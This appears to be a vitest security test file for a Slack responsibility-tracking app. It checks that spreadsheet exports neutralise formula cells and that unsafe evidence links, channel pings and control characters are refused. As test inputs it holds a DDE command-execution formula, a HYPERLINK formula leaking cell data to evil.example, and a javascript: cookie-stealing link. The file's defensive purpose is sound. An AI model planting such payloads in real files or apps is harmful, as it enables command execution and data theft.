import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { beforeEach, describe, expect, it } from 'vitest';
import { render } from '../../src/i18n/index.js';
import { importFiles } from '../../src/services/importer.js';
import { checkBlockKit } from '../support/blockkit-limits.js';
import { input, slashCommand, viewSubmission, viewValues } from '../support/payloads.js';
import { useTestApp } from '../support/test-app.js';

// SPEC §2.9 "What leaves the system is safe to open", tried as an attacker with a normal account would.
const NOW = new Date('2026-11-25T02:00:00Z');
const TOKEN = 'zeren-export-token-0123456789abcdef';
const FORMULA_TITLE = `+cmd|' /C calc'!A0`;
// YAML is a superset of JSON: the hostile titles need no YAML quoting this way.
const organisation = JSON.stringify({
  units: [
    { code: 'JS', name: '江苏省纪委', head: 'U01HEAD' },
    { code: 'JS-NJ', name: '南京市纪委', parent: 'JS', head: 'U02HEAD' },
  ],
  lists: [
    {
      unit: 'JS-NJ',
      year: 2026,
      items: [
        { code: 'NJ-01', title: '细化责任清单', responsibility: 'primary', owners: ['U03OWN'], due: '2026-12-31', cadence: 'weekly', start: '2026-11-02' },
        { code: 'NJ-02', title: FORMULA_TITLE, responsibility: 'primary', owners: ['U04OWN'], due: '2026-12-31', cadence: 'weekly', start: '2026-11-02' },
      ],
    },
  ],
});

describe('what leaves the system is safe to open (SPEC §2.9)', () => {
  const app = useTestApp({ env: { ZEREN_LOCALE: 'en', ZEREN_EXPORT_TOKEN: TOKEN }, now: NOW, users: [...['U01HEAD', 'U02HEAD', 'U04OWN'].map((id) => ({ id, locale: 'en-US' })), { id: 'U03OWN', locale: 'zh-CN' }] });
  let channel: string;
  const db = () => app.db;
  const drain = () => app.drain(10_000);
  const reports = () => db().selectFrom('ledger').selectAll().where('kind', '=', 'report').execute();
  const written = async () => ({
    reports: (await reports()).length,
    state: await db().selectFrom('item_state').selectAll().execute(),
    outbox: (await db().selectFrom('outbox').select('kind').execute()).length,
  });
  // Slack escapes &, < and > in a slash command's text, as it does here.
  const command = async (user: string, text: string) => {
    const response = await app.send(slashCommand({ user_id: user, channel_id: channel, text: text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;') }));
    expect(response.statusCode).toBe(200);
    return response.json() as { text: string; blocks: unknown[] };
  };
  const submit = (user: string, fields: { note?: string; evidence?: string; percent?: string }) =>
    app.send(
      viewSubmission({
        user,
        callbackId: 'progress_modal',
        privateMetadata: JSON.stringify({ origin: 'modal', channel }),
        values: viewValues({ item: input.select('NJ-01'), percent: input.number(fields.percent), status: input.select(null), note: input.text(fields.note), evidence: input.url(fields.evidence) }),
      }),
    );
  const download = (url: string) => app.bot.server.inject({ method: 'GET', url, headers: { authorization: `Bearer ${TOKEN}` } });

  beforeEach(async () => {
    channel = app.fake.addChannel({ name: 'zr-js-nj', members: ['U0BOT', 'U02HEAD', 'U03OWN', 'U04OWN'] }).id;
    await db().insertInto('units').values({ code: 'JS', name: '江苏省纪委' }).execute();
    await db().insertInto('units').values({ code: 'JS-NJ', name: '南京市纪委', parent_code: 'JS', channel_id: channel, channel_ready_at: NOW }).execute();
    await app.importDocuments({ name: 'org.yaml', content: organisation });
    await drain();
  });

  it('neutralises formula cells in the CSV exports, keeps numbers numbers, and writes text cells as strings in XLSX', async () => {
    const formulaNote = '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")';
    expect((await command('U04OWN', `NJ-02 40% ${formulaNote}`)).text).toContain('Recorded for NJ-02');
    expect((await command('U03OWN', 'NJ-01 -3 天后补齐')).text).toContain('NJ-01');

    const ledger = await download('/exports/ledger?format=csv');
    expect(ledger.statusCode).toBe(200);
    const rows = parse(ledger.body, { bom: true, columns: true }) as Record<string, string>[];
    const noted = rows.filter((row) => row.kind === 'report');
    expect(noted.map((row) => [row.item, row.percent, row.note])).toEqual([
      ['NJ-02', '40', `'${formulaNote}`],
      ['NJ-01', '', "'-3 天后补齐"],
    ]);
    expect(rows.find((row) => row.item === 'NJ-02' && row.kind !== 'report')?.details).toContain(FORMULA_TITLE);
    // No cell of the file starts a formula.
    expect(rows.flatMap((row) => Object.values(row)).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const items = parse((await download('/exports/items?format=csv')).body, { bom: true, columns: true }) as Record<string, string>[];
    expect(items.find((row) => row.code === 'NJ-02')).toMatchObject({ title: `'${FORMULA_TITLE}`, percent: '40' });

    const xlsx = await download('/exports/items?format=xlsx');
    const sheet = strFromU8(unzipSync(new Uint8Array(xlsx.rawPayload))['xl/worksheets/sheet1.xml'] as Uint8Array);
    expect(sheet).not.toContain('<f>');
    const strings = strFromU8(unzipSync(new Uint8Array(xlsx.rawPayload))['xl/sharedStrings.xml'] as Uint8Array);
    expect(strings).toContain(`+cmd|&apos; /C calc&apos;!A0`.replace(/&apos;/g, "'"));
  });

  it('keeps a note of 1,000 & within Block Kit’s limits after escaping: the reply, the channel notice and the approval request are delivered', async () => {
    const note = '&'.repeat(1000);
    const reply = await command('U03OWN', `NJ-01 100% done ${note}`);
    expect(checkBlockKit('message', reply)).toEqual([]);
    expect(JSON.stringify(reply.blocks)).toContain('&amp;&amp;&amp;');
    const [entry] = await reports();
    expect(entry?.details).toMatchObject({ percent: 100, status: 'done', note });

    await drain();
    const sent = await db().selectFrom('outbox').select(['kind', 'state', 'last_error']).orderBy('id').execute();
    expect(sent.map((row) => row.kind)).toEqual(expect.arrayContaining(['report_notice', 'approval_request']));
    expect(sent.filter((row) => row.state !== 'sent')).toEqual([]);
    const claim = app.fake.messages(channel).find((message) => message.text?.includes('as done'));
    expect(JSON.stringify(claim?.blocks)).toContain('&amp;&amp;&amp;');
    const [notice] = app.fake.messages(channel).filter((message) => message.text?.includes('reported on'));
    const section = (notice?.blocks?.[0] as { text: { text: string } }).text.text;
    expect(section.length).toBeLessThanOrEqual(3000);
    // Cut between whole entities, never inside one.
    expect(section.replace(/&amp;/g, '')).not.toContain('&');

    // The longest note the modal takes (3,000 characters) is confirmed within the limits too.
    expect((await submit('U03OWN', { note: '<'.repeat(3000) })).statusCode).toBe(200);
    const confirmation = app.fake.messages(channel).filter((message) => message.ephemeral && message.user === 'U03OWN').at(-1);
    expect(JSON.stringify(confirmation?.blocks)).toContain('&lt;&lt;');
  });

  it.each([
    ['!channel', '!channel'],
    ['<!channel>', '<!channel>'],
    ['javascript:', 'javascript:alert(document.cookie)'],
    ['a 100,000-character link', `https://example.org/${'a'.repeat(100_000)}`],
  ])('refuses %s as an evidence link in the user’s language, and writes nothing', async (_name, evidence) => {
    const before = await written();
    const response = await submit('U03OWN', { percent: '40', evidence });
    expect(response.statusCode).toBe(200);
    const expected = evidence.length > 2000 ? render('zh-CN', { key: 'progress.evidenceTooLong', params: { max: 2000, length: evidence.length } }) : render('zh-CN', { key: 'progress.evidenceNotWeb' });
    expect(response.json()).toEqual({ response_action: 'errors', errors: { evidence: expected } });
    expect(expected).toMatch(/佐证材料链接/);
    expect(await written()).toEqual(before);
  });

  it('links an http(s) evidence link and nothing else, so that it cannot ping the channel', async () => {
    expect((await submit('U03OWN', { percent: '40', evidence: 'https://docs.example.org/plan|<!channel>' })).statusCode).toBe(200);
    const [entry] = await reports();
    expect(entry?.details).toMatchObject({ evidence_url: 'https://docs.example.org/plan%7C%3C!channel%3E' });
    await drain();
    const [notice] = app.fake.messages(channel).filter((message) => message.text?.includes('reported on'));
    const blocks = JSON.stringify(notice?.blocks);
    expect(blocks).toContain('<https://docs.example.org/plan%7C%3C!channel%3E|Evidence>');
    expect(blocks).not.toContain('<!channel');
  });

  it('refuses a NUL in a note with a clear message in the user’s language, from the command and the modal, and writes nothing', async () => {
    const before = await written();
    const reply = await command('U03OWN', 'NJ-01 40% 初稿\u0000已完成');
    expect(reply.text).toBe('说明中含有无法记录的控制字符（U+0000），请删除后再提交。');
    expect(checkBlockKit('message', reply)).toEqual([]);
    const english = await command('U04OWN', 'NJ-02 note with a bell \u0007');
    expect(english.text).toBe('The note contains a control character (U+0007) that cannot be recorded. Please remove it.');

    const response = await submit('U03OWN', { note: 'a\u0000b' });
    expect(response.json()).toEqual({ response_action: 'errors', errors: { note: '说明中含有无法记录的控制字符（U+0000），请删除后再提交。' } });
    expect(await written()).toEqual(before);

    // Tabs and line breaks are a note's own: recorded.
    expect((await submit('U03OWN', { note: '第一行\n\t第二行' })).statusCode).toBe(200);
    expect((await reports())[0]?.details).toMatchObject({ note: '第一行\n\t第二行' });
  });

  it('refuses a NUL in a return reason beside the field, and decides nothing', async () => {
    await command('U03OWN', 'NJ-01 100% done');
    const approval = await db().selectFrom('approvals').select('id').executeTakeFirstOrThrow();
    const response = await app.send(
      viewSubmission({ user: 'U02HEAD', viewId: 'V-return', callbackId: 'approval_return_modal', privateMetadata: JSON.stringify({ approval: approval.id }), values: viewValues({ reason: input.text('缺少\u0000材料') }) }),
    );
    expect(response.json()).toEqual({ response_action: 'errors', errors: { reason: 'The reason contains a control character (U+0000) that cannot be recorded. Please remove it.' } });
    expect(await db().selectFrom('ledger').select('id').where('kind', '=', 'returned').execute()).toEqual([]);
  });

  it('refuses an import row with a NUL in its title, naming the file and the row, and writes nothing', async () => {
    const items = async () => (await db().selectFrom('items').select('code').execute()).length;
    const before = await items();
    const outcome = await importFiles(app.deps(), [
      { name: 'items.csv', content: 'unit,year,code,title,responsibility,owners,due,cadence\nJS-NJ,2026,NJ-03,好标题,primary,U03OWN,2026-12-31,weekly\nJS-NJ,2026,NJ-04,坏\u0000标题,primary,U03OWN,2026-12-31,weekly\n' },
    ]);
    expect(outcome.ok).toBe(false);
    const problems = outcome.ok ? [] : outcome.problems.map((problem) => `${problem.file} ${problem.where}: ${render('en', problem.message)}`);
    expect(problems).toEqual(['items.csv row 3, column title: contains a control character (U+0000); remove it']);
    expect(await items()).toBe(before);
  });
});
